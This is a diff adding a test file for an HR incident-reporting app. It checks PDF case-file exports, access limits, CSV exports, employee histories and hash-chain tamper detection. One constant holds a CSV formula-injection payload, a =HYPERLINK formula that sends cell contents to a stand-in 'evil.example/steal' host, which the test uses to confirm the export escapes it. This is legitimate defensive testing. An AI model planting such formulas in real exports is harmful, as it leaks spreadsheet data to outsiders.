@@ -1,0 +1,194 @@
+import { spawnSync } from "node:child_process";
+import { parse } from "csv-parse/sync";
+import { beforeAll, describe, expect, it } from "vitest";
+import { extractPdfText } from "~/domain/pdf-text";
+import { recordSanction, recordProtectiveAction } from "~/models/incident-handling.server";
+import { createIncident } from "~/models/incident.server";
+import * as caseFileRoute from "~/routes/cases.$reference.case-file";
+import * as csvRoute from "~/routes/hr.cases.csv";
+import * as historyRoute from "~/routes/hr.employees.$id";
+import * as verifyRoute from "~/routes/hr.verify";
+import { getDb, type Db } from "~/utils/db.server";
+import { getRequest, loginCookie } from "../fixtures/http";
+import { createTestOrg, type TestOrg } from "../fixtures/org";
+import { TEST_APP_URL } from "../fixtures/database";
+
+// HR review: the PDF case file, CSV lists without formula injection, and tamper evidence
+// (a row edited in the database is named by the verify page and the CLI).
+
+let db: Db;
+let org: TestOrg;
+let hrCookie: string;
+let ref: string;
+let id: string;
+let tamperedRef: string;
+let tamperedId: string;
+
+const INJECTION = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")';
+
+beforeAll(async () => {
+  db = await getDb();
+  org = await createTestOrg(db, "hr");
+  const base = {
+    reporterId: org.employeeA.id,
+    accountId: org.account.id,
+    occurredAt: new Date(),
+    channel: "EMAIL" as const,
+    severity: "HIGH" as const,
+    categories: ["THREATS" as const],
+  };
+  ({ reference: ref, id } = await createIncident(db, {
+    ...base,
+    narrative: `${INJECTION} and then threatened me by email.`,
+  }));
+  await recordProtectiveAction(db, {
+    incidentId: id,
+    actorId: org.managerA.id,
+    type: "COUNSELLING",
+  });
+  await recordSanction(db, { incidentId: id, actorId: org.managerA.id, type: "WRITTEN_WARNING" });
+  await db.evidence.create({
+    data: {
+      incidentId: id,
+      fileName: "threat-email.png",
+      storedName: "00000000-0000-4000-8000-000000000001",
+      mimeType: "image/png",
+      sizeBytes: 10,
+      sha256: "c0ffee".padEnd(64, "0"),
+      uploadedById: org.employeeA.id,
+    },
+  });
+  ({ reference: tamperedRef, id: tamperedId } = await createIncident(db, {
+    ...base,
+    narrative: "A second report whose timeline someone edits.",
+  }));
+  await recordSanction(db, {
+    incidentId: tamperedId,
+    actorId: org.managerA.id,
+    type: "RECORD_FACTS",
+  });
+  hrCookie = await loginCookie(org.hr.email);
+});
+
+async function get(
+  fn: (a: never) => unknown,
+  path: string,
+  params: Record<string, string>,
+  cookie = hrCookie,
+) {
+  try {
+    const r = await (fn as (a: unknown) => Promise<unknown>)({
+      request: getRequest(path, cookie),
+      params,
+      context: {},
+    });
+    return r as Response | Record<string, unknown>;
+  } catch (thrown) {
+    if (thrown instanceof Response) return thrown;
+    throw thrown;
+  }
+}
+
+describe("exports", () => {
+  it("gives HR the case file as a PDF with timeline, actions, evidence hashes; the export is on the timeline", async () => {
+    const res = (await get(caseFileRoute.loader, `/cases/${ref}/case-file`, {
+      reference: ref,
+    })) as Response;
+    expect(res.status).toBe(200);
+    expect(res.headers.get("Content-Type")).toBe("application/pdf");
+    const text = extractPdfText(new Uint8Array(await res.arrayBuffer()));
+    expect(text).toContain(`Case file ${ref}`);
+    expect(text).toContain("and then threatened me by email.");
+    expect(text).toContain("Protective: Counselling");
+    expect(text).toContain("Written warning to the customer");
+    expect(text).toContain(`SHA-256 ${"c0ffee".padEnd(64, "0")}`);
+    expect(text).toContain("threat-email.png");
+    expect(text).toContain("Report submitted");
+    expect(text).toMatch(/Hash chain verified: \d+ events, unbroken\./);
+    const exported = await db.caseEvent.findFirstOrThrow({
+      where: { incidentId: id, type: "EXPORTED" },
+    });
+    expect(exported.actorId).toBe(org.hr.id);
+  });
+
+  it("refuses the case file to the manager handling the case (HR exports for counsel)", async () => {
+    const manager = await loginCookie(org.managerA.email);
+    const res = (await get(
+      caseFileRoute.loader,
+      `/cases/${ref}/case-file`,
+      { reference: ref },
+      manager,
+    )) as Response;
+    expect(res.status).toBe(404);
+  });
+
+  it("writes CSV lists in which a report starting with =HYPERLINK( is plain text", async () => {
+    const res = (await get(csvRoute.loader, `/hr/cases/csv`, {})) as Response;
+    expect(res.status).toBe(200);
+    expect(res.headers.get("Content-Type")).toMatch(/^text\/csv/);
+    const csv = (await res.text()).replace(/^\uFEFF/, "");
+    const rows = parse(csv) as string[][];
+    const header = rows[0];
+    const row = rows.find((r) => r[0] === ref)!;
+    const narrative = row[header.indexOf("What happened")];
+    expect(narrative.startsWith("'=HYPERLINK(")).toBe(true);
+    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(await db.caseEvent.count({ where: { incidentId: id, type: "EXPORTED" } })).toBe(2);
+  });
+});
+
+describe("histories", () => {
+  it("shows HR everything an employee reported and the support given", async () => {
+    const body = (await get(historyRoute.loader, `/hr/employees/${org.employeeA.id}`, {
+      id: org.employeeA.id,
+    })) as { cases: { reference: string }[]; support: { type: string }[] };
+    expect(body.cases.map((c) => c.reference).sort()).toEqual([ref, tamperedRef].sort());
+    expect(body.support.map((s) => s.type)).toEqual(["COUNSELLING"]);
+  });
+});
+
+describe("tamper evidence", () => {
+  it("names the edited row on the verify page and in the CLI; intact chains pass", async () => {
+    const ok = (await get(verifyRoute.loader, `/hr/verify?all=1`, {})) as {
+      broken: unknown[];
+      checked: number;
+    };
+    expect(ok.broken).toEqual([]);
+    expect(ok.checked).toBeGreaterThanOrEqual(2);
+
+    // Someone with database access softens the wording of event 2 of the second case.
+    const target = await db.caseEvent.findFirstOrThrow({
+      where: { incidentId: tamperedId, seq: 2 },
+    });
+    const changed = await db.$executeRawUnsafe(
+      `UPDATE "CaseEvent" SET "data" = '{"edited":true}' WHERE "id" = '${target.id}'`,
+    );
+    expect(changed).toBe(1);
+
+    const all = (await get(verifyRoute.loader, `/hr/verify?all=1`, {})) as {
+      broken: { reference: string; seq: number; reason: string }[];
+    };
+    expect(all.broken).toEqual([
+      { reference: tamperedRef, seq: 2, reason: "the event was changed after it was written" },
+    ]);
+    const one = (await get(verifyRoute.loader, `/hr/verify?reference=${tamperedRef}`, {})) as {
+      broken: { seq: number }[];
+    };
+    expect(one.broken.map((b) => b.seq)).toEqual([2]);
+    const intact = (await get(verifyRoute.loader, `/hr/verify?reference=${ref}`, {})) as {
+      broken: unknown[];
+    };
+    expect(intact.broken).toEqual([]);
+
+    const cli = spawnSync("npx", ["tsx", "scripts/verify-chains.ts"], {
+      env: { ...process.env, APP_URL: TEST_APP_URL },
+      encoding: "utf8",
+      timeout: 120_000,
+    });
+    expect(cli.stdout).toContain(
+      `BROKEN ${tamperedRef} seq 2: the event was changed after it was written`,
+    );
+    expect(cli.stdout).not.toContain(`BROKEN ${ref} `);
+    expect(cli.status).toBe(1);
+  });
+});
